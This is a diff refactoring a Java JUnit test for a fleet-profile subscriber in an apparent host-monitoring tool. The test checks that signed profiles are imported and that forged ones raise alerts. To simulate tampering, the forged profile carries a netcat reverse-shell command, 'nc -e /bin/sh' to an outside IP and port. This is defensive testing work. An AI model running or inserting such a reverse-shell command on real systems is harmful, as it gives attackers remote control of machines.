@@ -6,7 +6,6 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import dev.vigil.agent.FleetSubscriber;
 import dev.vigil.alert.Alert;
-import dev.vigil.alert.KafkaOutputTest;
 import dev.vigil.profile.Dimension;
 import dev.vigil.profile.ProfileSet;
 import dev.vigil.profile.WorkloadKey;
@@ -16,24 +15,17 @@ import java.time.Instant;
 import java.util.ArrayList;
 import java.util.List;
 import java.util.Map;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /** An agent's fleet subscription against the in-process broker: verified profiles imported, tampered ones alerted. */
-class FleetSubscriberTest {
-    @BeforeAll
-    static void broker() throws Exception { KafkaOutputTest.broker(); }
-
-    @AfterAll
-    static void stop() throws Exception { KafkaOutputTest.stop(); }
+class FleetSubscriberTest extends dev.vigil.alert.BrokerTest {
 
     @Test
     void verifiedProfilesAreImportedAndTamperedOnesRaiseAnAlertInstead(@TempDir Path dir) throws Exception {
         Signer signer = Signer.generate(dir);
         String w = FleetServiceTest.W;
-        FleetService.Settings s = new FleetService.Settings(KafkaOutputTest.kafka.bootstrapServers(), "fleet-t2", "events.t2", "profiles.t2", 2, Map.of());
+        FleetService.Settings s = new FleetService.Settings(kafka.bootstrapServers(), "fleet-t2", "events.t2", "profiles.t2", 2, Map.of());
         try (FleetService f = new FleetService(s, signer, FleetServiceTest.QUIET)) {
             FleetServiceTest.produce("events.t2", List.of(
                     FleetServiceTest.event("h1", "process", "/usr/sbin/nginx -> /usr/bin/dash -c logrotate", "learnt"),
@@ -42,19 +34,19 @@ class FleetSubscriberTest {
             FleetServiceTest.drain(f, 3);
         }
         // a forged document (an attacker's item added to a copy of the real one) and a real one republished under another key
-        String real = KafkaOutputTest.read("profiles.t2", 1).getLast().value();
+        String real = read("profiles.t2", 1).getLast().value();
         ObjectNode forged = (ObjectNode) new ObjectMapper().readTree(real);
         forged.withObjectProperty("normal").withArrayProperty("process").add("/usr/sbin/nginx -> /usr/bin/nc -e /bin/sh 203.0.113.9 4444");
         FleetServiceTest.produce("profiles.t2", List.of(forged.toString()));
         try (var prod = new org.apache.kafka.clients.producer.KafkaProducer<String, String>(java.util.Map.of("bootstrap.servers",
-                KafkaOutputTest.kafka.bootstrapServers()), new org.apache.kafka.common.serialization.StringSerializer(),
+                kafka.bootstrapServers()), new org.apache.kafka.common.serialization.StringSerializer(),
                 new org.apache.kafka.common.serialization.StringSerializer())) {
             prod.send(new org.apache.kafka.clients.producer.ProducerRecord<>("profiles.t2", "systemd:other.service other", real)).get();
         }
 
         List<FleetSubscriber.Import> imports = new ArrayList<>();
         List<Alert> alerts = new ArrayList<>();
-        try (FleetSubscriber sub = new FleetSubscriber(KafkaOutputTest.kafka.bootstrapServers(), "profiles.t2", Signer.verifier(dir.resolve(Signer.PUBLIC)),
+        try (FleetSubscriber sub = new FleetSubscriber(kafka.bootstrapServers(), "profiles.t2", Signer.verifier(dir.resolve(Signer.PUBLIC)),
                 Map.of(), "web-9")) {
             long end = System.nanoTime() + 30_000_000_000L;
             while ((imports.size() < 1 || alerts.size() < 2) && System.nanoTime() < end) {
